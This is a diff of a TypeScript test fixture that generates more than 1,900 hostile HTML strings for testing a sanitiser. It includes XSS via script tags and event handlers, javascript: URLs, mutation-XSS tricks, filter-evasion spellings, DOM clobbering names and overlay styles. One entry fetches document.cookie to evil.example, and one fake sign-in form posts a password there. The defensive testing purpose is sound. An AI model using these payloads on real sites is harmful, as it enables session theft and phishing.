@@ -1,7 +1,7 @@
 /**
- * Hostile HTML for tests: everything that runs, loads, styles, lies over the page or looks like a control, in the writings
- * that get past filters. What would run calls `alert`, what would load asks `evil.example`. Written for this product;
- * the kinds are those of the OWASP cheat sheets on filter evasion and of the published bypasses of sanitisers.
+ * Hostile HTML for tests: markup that runs, loads, styles, covers the page or imitates a control, in spellings that get
+ * past filters. Whatever would run calls `alert`; whatever would load requests `evil.example`. Written for this
+ * product; the kinds follow the OWASP cheat sheets on filter evasion and published bypasses of sanitisers.
  */
 // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes
 const CODE = ['alert(1)', 'fetch(`//evil.example/${document.cookie}`)', "location='//evil.example'"]
@@ -44,7 +44,7 @@ const SCHEMES = [
   'x:',
 ]
 
-/** One or a few of each kind: for places that are looked at one by one. */
+/** One or a few of each kind, for tests that examine each one separately. */
 export const HOSTILE_KINDS: readonly string[] = [
   ...CODE.flatMap(code => [
     `<script>${code}</script>`,
@@ -68,7 +68,7 @@ export const HOSTILE_KINDS: readonly string[] = [
     `<form action="${scheme}alert(1)"><button>x</button></form>`,
     `<iframe src="${scheme}alert(1)"></iframe>`,
   ]),
-  // Things that look like a sign-in form, or lie over the page.
+  // Imitations of a sign-in form, and overlays.
   '<form action=https://evil.example><input type=password name=p><button>サインイン</button></form>',
   '<input autofocus onfocus=alert(1)>',
   '<button formaction=javascript:alert(1)>x</button>',
@@ -86,7 +86,7 @@ export const HOSTILE_KINDS: readonly string[] = [
   '<b title="x" data-x=1 aria-label=x role=button tabindex=0 contenteditable draggable=true is=x-y slot=a part=b nonce=c>x</b>',
   '<a href=https://ok.example target=_self rel=opener download ping=//evil.example>x</a>',
   '<a name=x id=document>x</a>',
-  // Things that load.
+  // Markup that loads something.
   '<img src=https://evil.example/pixel.png>',
   '<img srcset=//evil.example/1>',
   '<picture><source srcset=//evil.example></picture>',
@@ -107,7 +107,7 @@ export const HOSTILE_KINDS: readonly string[] = [
   '<isindex action=javascript:alert(1)>',
   '<keygen autofocus onfocus=alert(1)>',
   '<menuitem onclick=alert(1)>',
-  // Things that mutate: what a parser makes of them is not what was written.
+  // Mutation: a parser reads something else than was written.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -134,7 +134,7 @@ export const HOSTILE_KINDS: readonly string[] = [
   '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
   '<a href="https://ok.example/\'onclick=alert(1)">x</a>',
   '<a href=`javascript:alert(1)`>x</a>',
-  // Broken on purpose.
+  // Malformed on purpose.
   '<<script>alert(1)//<</script>',
   '<img src=x onerror=alert(1)',
   '<img """><script>alert(1)</script>">',
@@ -190,7 +190,7 @@ const ELEMENTS = [
   ...['picture', 'pre', 'progress', 'search', 'section', 'select', 'source', 'span', 'style', 'summary', 'svg'],
   ...['table', 'tbody', 'td', 'template', 'textarea', 'th', 'title', 'tr', 'track', 'ul', 'video', 'x-custom', 'xmp'],
 ]
-/** Elements that run a handler, without anybody touching them. */
+/** Elements whose handler runs without any action of the user. */
 const SELF_STARTING = [
   '<img src=x onerror=CODE>',
   '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=CODE>',
@@ -217,7 +217,7 @@ const SELF_STARTING = [
   '<object data="javascript:CODE"></object>',
   '<embed src="javascript:CODE">',
 ]
-/** The same call, written so that a filter of words does not find it. */
+/** The same call in spellings that a word filter does not find. */
 const CALLS = [
   ...[
     'alert(1)',
@@ -244,7 +244,7 @@ const CALLS = [
     'import(`//evil.example`)',
   ],
 ]
-/** Around the same tag: what parsers read differently from filters. */
+/** Spellings around the same tag that parsers read differently from filters. */
 const WRITINGS: readonly ((tag: string) => string)[] = [
   tag => tag,
   tag => tag.toUpperCase().replaceAll('ALERT', 'alert'),
@@ -267,26 +267,26 @@ const BLANKS = [
   ...[0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2000],
   ...[0x2007, 0x200b, 0x200d, 0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x3000, 0xfeff, 0xfffd],
 ]
-/** Names that stand for something else in a document or a form. */
+/** Names that shadow properties of a document or form (DOM clobbering). */
 const CLOBBERED = [
   ...['attributes', 'body', 'childNodes', 'children', 'cookie', 'createElement', 'defaultView', 'documentElement'],
   ...['firstChild', 'getElementById', 'innerHTML', 'lastChild', 'location', 'nodeName', 'nodeType', 'parentNode'],
   ...['querySelector', 'removeAttribute', 'removeChild', 'setAttribute', 'textContent', '__proto__', 'constructor'],
 ]
-/** Text whose meaning changes with what is around it; a parser that reads it twice reads it differently. */
+/** Contexts that change the meaning of text, so that a second parser reads it differently. */
 const CONTEXTS = [
   ...['math', 'svg', 'table', 'select', 'template', 'noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'form'],
   ...['noembed', 'noframes', 'plaintext', 'listing', 'option', 'button', 'a', 'mtext', 'desc', 'foreignObject'],
 ]
 const IMAGE = '<img src=x onerror=alert(1)>'
-/** Figures of what covers, imitates or tracks; nothing of it may be left. */
+/** Styles that cover, imitate or track; none of them may survive. */
 const STYLES = [
   ...['position:fixed;inset:0;z-index:9999', 'background:url(//evil.example/x)', 'width:expression(alert(1))'],
   ...['-moz-binding:url(//evil.example)', 'behavior:url(#x)', 'animation-name:x', 'list-style:url(//evil.example)'],
   ...['color:red;display:none', 'content:url(//evil.example)', 'filter:url(//evil.example#x)', 'font-size:0'],
 ]
 
-/** More than 1,900 strings, none twice. */
+/** More than 1,900 different strings. */
 export function hostileMarkup(): readonly string[] {
   const all = [
     ...HOSTILE_KINDS,
